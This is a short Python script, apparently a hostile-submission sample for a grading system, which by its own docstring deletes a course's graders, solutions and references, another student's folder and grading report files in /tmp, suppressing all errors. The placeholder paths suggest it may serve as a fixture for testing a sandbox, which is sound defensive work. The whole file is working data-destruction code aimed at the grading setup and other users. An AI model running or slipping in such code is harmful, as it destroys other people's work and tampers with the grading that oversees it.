"""Deletes the course (graders, solutions, references), another student's folder and anything else it can."""
import glob as _glob
import os as _os
import shutil as _shutil

for _path in ("__COURSE__/graders", "__COURSE__/solutions", "__COURSE__/reference", "__COURSE__", "__OTHER__",
              *_glob.glob("/tmp/cvgrade-report-*")):
    _shutil.rmtree(_path, ignore_errors=True)
    try:
        _os.remove(_path)
    except OSError:
        pass
